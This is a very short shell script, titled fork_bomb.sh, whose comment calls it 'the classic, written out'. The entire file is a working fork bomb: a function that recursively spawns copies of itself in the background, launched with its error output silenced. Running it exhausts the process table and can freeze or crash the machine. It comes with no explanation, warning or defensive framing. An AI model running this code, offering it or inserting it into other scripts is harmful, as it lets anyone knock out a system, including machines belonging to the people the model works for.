# fork_bomb.sh: the classic, written out.
bomb() {
	bomb | bomb &
	wait
}
bomb 2>/dev/null
